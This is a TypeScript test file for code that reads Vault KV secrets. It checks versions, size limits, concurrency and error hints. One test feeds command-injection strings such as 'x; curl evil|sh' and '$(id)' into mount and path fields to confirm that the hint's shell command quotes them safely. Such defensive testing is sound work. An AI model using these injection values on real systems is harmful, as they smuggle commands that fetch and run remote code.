import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { describe, test } from "node:test";
import { VaultReferenceError } from "../../../controller/vault-kv/reference-error.ts";
import { readItems } from "../../../controller/vault-kv/referenced-items.ts";
import type { VaultReference } from "../../../controller/vault-kv/vault-reference.ts";
import { KeyServiceError } from "../../../shared/seal/key-service-error.ts";
import type { KvRead } from "../../../shared/vault/kv-answer.ts";
import { MemoryKv } from "./memory-kv.ts";

const { signal } = new AbortController();
const reference = (key: string, change: Partial<VaultReference> = {}): VaultReference => ({
  ...{ key, mount: "kv", path: "db", field: key, version: null, refreshMs: null },
  ...change,
});
const texts = (items: ReadonlyMap<string, Uint8Array>) =>
  Object.fromEntries([...items].map(([item, bytes]) => [item, Buffer.from(bytes).toString()]));
const failing = async (references: VaultReference[], kv: MemoryKv): Promise<VaultReferenceError> => {
  const error = await readItems(references, kv, signal).then(
    () => assert.fail("it was read"),
    (thrown: unknown) => thrown,
  );
  assert.ok(error instanceof VaultReferenceError);
  return error;
};
/** What a command `vault …` is given when a shell runs it. */
const argumentsOf = (command: string): string[] => {
  const said = spawnSync("sh", ["-c", `vault() { printf '%s\\0' "$@"; }; ${command}`]);
  assert.deepEqual([said.status, said.stderr.toString()], [0, ""]);
  return said.stdout.toString().split("\0").slice(0, -1);
};

describe("items that stand in Vault", () => {
  test("are read once for each entry and version, whatever comes of it", async () => {
    const kv = new MemoryKv();
    kv.write("kv/db", { user: "a", password: "old" });
    kv.write("kv/db", { user: "b", password: "new€" });
    kv.write("kv/other", { user: "c" });
    const { items, versions } = await readItems(
      [
        reference("user"),
        reference("password"),
        reference("before", { field: "password", version: 1 }),
        reference("far", { path: "other", field: "user" }),
      ],
      kv,
      signal,
    );
    assert.deepEqual(texts(items), { user: "b", password: "new€", before: "old", far: "c" });
    const second = { version: 2, createdAt: "2030-01-01T00:00:00.000000002Z" };
    assert.deepEqual(Object.fromEntries(versions), {
      ...{ user: second, password: second },
      before: { version: 1, createdAt: "2030-01-01T00:00:00.000000001Z" },
      far: { version: 1, createdAt: "2030-01-01T00:00:00.000000003Z" },
    });
    assert.deepEqual(kv.asked, ["data kv/db", "data kv/db@1", "data kv/other"]);
  });

  test("keep nothing of an entry but the fields that are named", async () => {
    const kv = new MemoryKv();
    kv.write("kv/db", { a: "1", b: "2", rest: "x" });
    const { readSecret } = kv;
    const kept: unknown[] = [];
    kv.readSecret = async (at, options) => {
      const read = await readSecret.call(kv, at, options);
      if (read.kind === "found") kept.push([...read.fields.keys()]);
      return read;
    };
    await readItems([reference("a"), reference("b"), reference("c", { field: "a" })], kv, signal);
    assert.deepEqual(kept, [["a", "b"]]);
  });

  test("have as much as a Secret holds, and no more is read beyond", async () => {
    const MEBIBYTE = 1024 * 1024;
    const read = (sizes: readonly string[]) => {
      const kv = new MemoryKv();
      for (const [at, text] of sizes.entries()) kv.write(`kv/${at}`, { a: text });
      const all = sizes.map((_, at) => reference(`k${at}`, { path: `${at}`, field: "a" }));
      return { kv, all };
    };
    const [half, more] = ["x".repeat(MEBIBYTE / 2), "x".repeat(MEBIBYTE / 2 + 1)];
    const fits = read([half, half]);
    assert.equal((await readItems(fits.all, fits.kv, signal)).items.size, 2);
    const rest = Array.from({ length: 9 }, () => "x");
    for (const sizes of [[half, more], [`${half}${more}`], ["€".repeat(MEBIBYTE / 2)]]) {
      const { kv, all } = read([...sizes, ...rest]);
      const error = await failing(all, kv);
      assert.equal(error.reason, "VaultValuesTooLarge");
      assert.match(error.message, /more than 1 MiB in all/);
      assert.equal(kv.asked.length, 2);
    }
    const { kv, all } = read([more]);
    const twice = [...all, ...all.map((one) => ({ ...one, key: "again" }))];
    assert.equal((await failing(twice, kv)).reason, "VaultValuesTooLarge");
  });

  test("at most two at once", async () => {
    const kv = new MemoryKv();
    let now = 0;
    let most = 0;
    kv.before = async () => {
      most = Math.max(most, ++now);
      await new Promise((resolve) => setImmediate(resolve));
      now -= 1;
    };
    const all = Array.from({ length: 11 }, (_, at) => reference(`k${at}`, { path: `p${at}`, field: "a" }));
    for (const { path } of all) kv.write(`kv/${path}`, { a: path });
    assert.equal((await readItems(all, kv, signal)).items.size, 11);
    assert.equal(most, 2);
  });

  const rows: [string, (kv: MemoryKv) => void, Partial<VaultReference>, string, RegExp][] = [
    [
      "never written",
      () => undefined,
      { path: "no" },
      "VaultSecretMissing",
      /nothing was ever written there/,
    ],
    [
      "a version never written",
      () => undefined,
      { version: 9 },
      "VaultSecretMissing",
      /there is no version 9/,
    ],
    [
      "deleted",
      (kv) => kv.mark("kv/db", 1, { deletedAt: "2030-01-01T00:00:00Z" }),
      {},
      "VaultSecretDeleted",
      /version 1 was deleted; the Secret stays/,
    ],
    [
      "destroyed",
      (kv) => kv.mark("kv/db", 1, { destroyed: true }),
      {},
      "VaultVersionDestroyed",
      /version 1 was destroyed; the Secret stays/,
    ],
    [
      "without the field",
      () => undefined,
      { field: "b" },
      "VaultFieldMissing",
      /field "b" is not there in version 1/,
    ],
    ["null", () => undefined, { field: "nil" }, "VaultFieldMissing", /field "nil" is null in version 1/],
    [
      "forbidden",
      (kv) => void kv.faults.set("data", "denied"),
      {},
      "VaultForbidden",
      /does not let the ServiceAccount signet-vault of this namespace read it/,
    ],
  ];
  for (const [what, prepare, change, reason, words] of rows)
    test(`are told apart: ${what}`, async () => {
      const kv = new MemoryKv();
      kv.write("kv/db", { a: "canary-value", nil: null });
      prepare(kv);
      const error = await failing([reference("a", change)], kv);
      assert.equal(error.reason, reason);
      assert.match(error.message, words);
      assert.match(error.message, /^item a \(Vault, mount kv, path \S+\): /);
      assert.ok(!`${error.message} ${error.hint}`.includes("canary"));
    });

  for (const text of ["x; curl evil|sh", "it's", 'a"b', "a\nb", "$(id)", "`id`", "-address=http://evil"])
    test(`commands in hints run nothing: ${JSON.stringify(text)}`, async () => {
      const kinds: KvRead[] = [
        { kind: "missing" },
        { kind: "deleted", version: 2, deletedAt: null },
        { kind: "destroyed", version: 2 },
        { kind: "not-kv-2", found: "kv-1" },
      ];
      const heard: string[][] = [];
      for (const read of kinds) {
        const kv = new MemoryKv();
        kv.readSecret = async () => read;
        const { hint } = await failing([reference("a", { mount: text, path: text })], kv);
        const command = hint.slice(hint.indexOf("vault kv"));
        heard.push(argumentsOf(command));
      }
      const operand = text.startsWith("-") ? ["--", text] : [text];
      assert.deepEqual(heard, [
        ["kv", "put", `-mount=${text}`, ...operand, "…"],
        ["kv", "undelete", `-mount=${text}`, "-versions=2", ...operand],
        ["kv", "put", `-mount=${text}`, ...operand, "…"],
        ["kv", "enable-versioning", ...operand],
      ]);
    });

  test("a path with data/ before it gets the hint that it needs none", async () => {
    for (const path of ["data/db", "metadata/db"]) {
      const missing = await failing([reference("a", { path })], new MemoryKv());
      assert.deepEqual([missing.reason, /without data\//.test(missing.hint)], ["VaultSecretMissing", true]);
      const kv = new MemoryKv();
      kv.faults.set("data", "denied");
      const forbidden = await failing([reference("a", { path })], kv);
      assert.equal(forbidden.reason, "VaultForbidden");
      assert.match(
        forbidden.hint,
        /^give the path without data\/.*allow read on kv\/data\/(?:meta)?data\/db /,
      );
      const other = await failing([reference("a", { path: "database/x" })], kv);
      assert.doesNotMatch(other.hint, /without data/);
    }
  });

  test("mounts of something else are told", async () => {
    for (const [found, words] of [
      ["kv-1", /version 1 of the KV engine/],
      ["other", /another engine/],
      ["nothing", /nothing is mounted/],
    ] as const) {
      const kv = new MemoryKv();
      kv.readSecret = async (): Promise<KvRead> => ({ kind: "not-kv-2", found });
      assert.match((await failing([reference("a")], kv)).message, words);
    }
  });

  test("the first item's fault is told, whichever answer comes first", async () => {
    const kv = new MemoryKv();
    kv.write("kv/db", {});
    kv.write("kv/gone", { a: "1" });
    kv.mark("kv/gone", 1, { deletedAt: "2030-01-01T00:00:00Z" });
    let first = true;
    kv.before = async () => {
      const isFirst = first;
      first = false;
      if (isFirst) await new Promise((resolve) => setTimeout(resolve, 20));
    };
    const error = await failing([reference("a", { path: "gone" }), reference("b", { path: "never" })], kv);
    assert.equal(error.reason, "VaultSecretDeleted");
  });

  test("an answer about another version than was asked for is not taken", async () => {
    const kv = new MemoryKv();
    kv.write("kv/db", { a: "1" });
    kv.write("kv/db", { a: "2" });
    const { readSecret } = kv;
    kv.readSecret = (at) => readSecret.call(kv, at, {});
    assert.equal((await failing([reference("a", { version: 1 })], kv)).reason, "VaultSecretMissing");
  });

  test("faults of Vault itself pass as they are", async () => {
    const kv = new MemoryKv();
    kv.faults.set("data", "unavailable");
    await assert.rejects(
      readItems([reference("a")], kv, signal),
      (error: unknown) => error instanceof KeyServiceError && error.retryable,
    );
  });
});
